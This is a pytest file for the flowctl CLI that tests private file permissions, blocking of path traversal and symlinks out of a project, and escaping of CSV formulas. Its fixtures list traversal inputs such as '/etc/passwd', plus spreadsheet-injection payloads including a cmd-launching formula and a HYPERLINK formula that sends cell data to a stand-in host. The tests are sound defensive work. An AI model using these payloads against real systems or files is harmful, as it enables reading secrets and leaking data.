"""Files: who may read what flowctl writes, and what lies outside a project that its files may name."""

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys

import pytest

from flowctl.cli.main import main
from flowctl.cli.sheets import harmless
from flowctl.store import contacts
from flowctl.store.database import transaction
from tests.shop import NOW, Shop, write_project


def mode(path):
    return stat.S_IMODE(path.stat().st_mode)


def flowctl(folder, *arguments, umask=0o000, **environ):
    known = {name: value for name, value in os.environ.items() if not name.startswith("FLOWCTL_")}
    program = [sys.executable, "-m", "flowctl", "-C", str(folder), *arguments]
    done = subprocess.run(program, capture_output=True, check=False, env={**known, **environ}, umask=umask)
    done.stdout, done.stderr = done.stdout.decode(), done.stderr.decode()  # as they are: text mode makes LF of CR
    return done


@pytest.fixture
def shop(tmp_path):
    made = Shop(tmp_path / "shop", people=2)
    made.store.close()
    return tmp_path / "shop"


@pytest.mark.slow
def test_what_holds_contacts_is_readable_by_its_owner_alone(shop, tmp_path):
    """With umask 0, so that nothing but our own care makes it so; also where a file was there before, open to all."""
    settings = (shop / "flowctl.yaml").read_text()
    (shop / "flowctl.yaml").write_text(
        settings.replace("{adapter: smtp, host: localhost, port: 9, security: none}", "{adapter: maildir, path: mail}")
    )
    (shop / "people.csv").write_text("key,email\nk9,nobody\n")
    for name in ("people.csv.errors.csv", "plan.json", "copy.db", "state.json"):
        (shop / name).touch(0o666)
    (shop / "people.csv.errors.csv").chmod(0o666)
    assert flowctl(shop, "plan", "--out", str(shop / "plan.json"), FLOWCTL_NOW="2027-01-15T08:00:00Z").returncode in (
        0,
        1,
    )
    assert flowctl(shop, "apply", "--yes", "--allow-dirty", FLOWCTL_NOW="2027-01-15T08:00:00Z").returncode == 0
    assert (
        flowctl(
            shop,
            "events",
            "add",
            "bought",
            "--contact",
            "k0",
            "--at",
            "2027-01-15T08:01:00Z",
            FLOWCTL_NOW="2027-01-15T08:02:00Z",
        ).returncode
        == 0
    )
    assert flowctl(shop, "tick", FLOWCTL_NOW="2027-01-15T10:00:00Z").returncode == 0
    assert flowctl(shop, "contacts", "import", "people.csv").returncode == 1
    assert flowctl(shop, "backup", str(shop / "copy.db")).returncode == 0
    letters = list((shop / "mail").rglob("*.eml"))
    assert letters
    private = [path for path in shop.iterdir() if path.name.startswith("flowctl.db")]
    private += [shop / "plan.json", shop / "people.csv.errors.csv", shop / "copy.db", *letters]
    assert {path.name: oct(mode(path)) for path in private} == {path.name: "0o600" for path in private}
    assert {oct(mode(path)) for path in (shop / "mail").rglob("*") if path.is_dir()} == {"0o700"}


@pytest.mark.parametrize("suffix", ["-wal", "-shm", ".lock"])
def test_the_files_beside_the_store_are_as_private(tmp_path, suffix):
    made = Shop(tmp_path / "shop", people=1)
    made.ticks(NOW + 1, step=1)
    path = tmp_path / "shop" / f"flowctl.db{suffix}"
    assert mode(path) == 0o600
    made.store.close()


OUTSIDE = [
    "../../secret.txt",
    "../secret.txt",
    "/etc/passwd",
    "links/secret.txt",
    "folder/secret.txt",
    "a/../../secret.txt",
    "..",
    ".",
    "secret\0.txt",
    "~/secret.txt",
    "file:///etc/passwd",
]


@pytest.fixture
def said(capsys):
    """A function that runs a command here: status, and all that it says."""

    def run(folder, *arguments):
        status = main(["-C", str(folder), *arguments])
        out, err = capsys.readouterr()
        return status, out + err

    return run


@pytest.fixture
def project(tmp_path):
    root = write_project(tmp_path / "in" / "project")
    (tmp_path / "in" / "secret.txt").write_text("S3CRET-OUTSIDE\n")
    (tmp_path / "secret.txt").write_text("S3CRET-OUTSIDE\n")
    (root / "links").mkdir()
    (root / "links" / "secret.txt").symlink_to(tmp_path / "secret.txt")
    (root / "folder").symlink_to(tmp_path / "in")
    return root


@pytest.mark.parametrize("path", OUTSIDE)
@pytest.mark.parametrize("key", ["file: {}", "body: {{file: {}}}", "attach: [{}]", "text: hi, attach: [{}]"])
def test_no_file_outside_the_project_is_read(project, said, path, key):
    part = key.format(json.dumps(path))
    (project / "evil.yaml").write_text(
        f"message: evil\npurpose: transactional\nemail: {{from: shop, subject: x, {part}}}\n"
    )
    status, text = said(project, "validate")
    assert status == 1
    assert "S3CRET" not in text
    assert "root:" not in text
    assert said(project, "apply", "--yes", "--allow-dirty")[0] == 2
    assert not [path for path in project.glob("flowctl.db*") if b"S3CRET" in path.read_bytes()]


@pytest.mark.parametrize("name", ["evil.yaml", "flowctl.yaml"])
def test_a_resource_that_is_a_link_to_elsewhere_is_not_read(project, said, tmp_path, name):
    (tmp_path / "elsewhere.yaml").write_text("password: S3CRET-OUTSIDE\n")
    (project / name).unlink(missing_ok=True)
    (project / name).symlink_to(tmp_path / "elsewhere.yaml")
    for command in (["validate"], ["lint"], ["apply", "--yes", "--allow-dirty"]):
        status, text = said(project, *command)
        assert status in (1, 2)
        assert "S3CRET" not in text
        assert "a link to outside the project" in text


def test_a_link_within_the_project_is_read(project, said):
    (project / "shared.yaml").symlink_to(project / "messages.yaml")
    assert "two messages named" in said(project, "validate")[1]


def test_a_sample_outside_is_not_read(project, said):
    (project / "evil.yaml").write_text(
        "workflow: evil\ntriggers: [{event: bought}]\nsteps:\n"
        "  - fetch: {service: shop, path: '/x', save_as: x, sample: ../secret.txt}\n"
    )
    text = (project / "flowctl.yaml").read_text() + "services: {shop: {url: 'https://shop.example'}}\n"
    (project / "flowctl.yaml").write_text(text)
    status, text = said(project, "validate")
    assert status == 1
    assert "S3CRET" not in text


# ---------------------------------------------------------------------------------------------------------------- spreadsheets

FORMULAS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)", "\t=1", "\r=1", "\n=1", "a\r=1", "a\n=1", '=HYPERLINK("http://e.example?"&A1)', "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)", "=", "+", "@", "-"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text):
    assert harmless(text) == ("'" + text if text[0] != "a" else text)


@pytest.mark.parametrize("text", ["", "Ana", "+33 6 12 34 56 78", "-12.5", "a=b", "1+1", "'=1", " =1", "é"])
def test_what_is_none_stays(text):
    assert harmless(text) == text


def risky(cell):
    return (
        cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
        and harmless(cell) != cell
    )


@pytest.mark.slow
def test_every_export_in_csv_is_harmless(tmp_path):
    made = Shop(tmp_path / "shop", people=0)
    settings = (made.root / "flowctl.yaml").read_text()
    (made.root / "flowctl.yaml").write_text(settings + "records: {note: {fields: {text: text}}}\n")
    with transaction(made.connection):
        for number, text in enumerate(FORMULAS):
            values = {"key": f"{text}{number}", "email": f"p{number}@example.com", "first_name": text, "owner": text}
            who = contacts.create(made.connection, values, origin=0, now=NOW)
            made.connection.execute(
                "INSERT INTO records (contact_id, kind, key, cause, record_values, at) VALUES (?, 'note', ?, ?, ?, 1)",
                (who, text, f"key:{number}", json.dumps({"text": text})),
            )
    made.store.close()
    assert flowctl(made.root, "apply", "--yes", "--allow-dirty").returncode == 0
    (made.root / "bad.csv").write_text(
        "key,email,=cmd|'x'!A1\n" + "".join(f'"{text}",nobody,x\n' for text in FORMULAS if '"' not in text)
    )
    flowctl(made.root, "contacts", "import", "bad.csv", "--ignore-unknown")
    texts = [(made.root / "bad.csv.errors.csv").read_bytes().decode()]
    for command in (["contacts", "export"], ["records", "export", "note"]):
        done = flowctl(made.root, *command)
        assert done.returncode == 0, done.stderr
        texts.append(done.stdout)
    for text in texts:
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert "\r" not in re.sub('"[^"]*"', "", text).replace("\r\n", "")
        assert len(rows) >= len(FORMULAS)
        assert [cell for row in rows for cell in row if risky(cell) and not cell.startswith("'")] == []
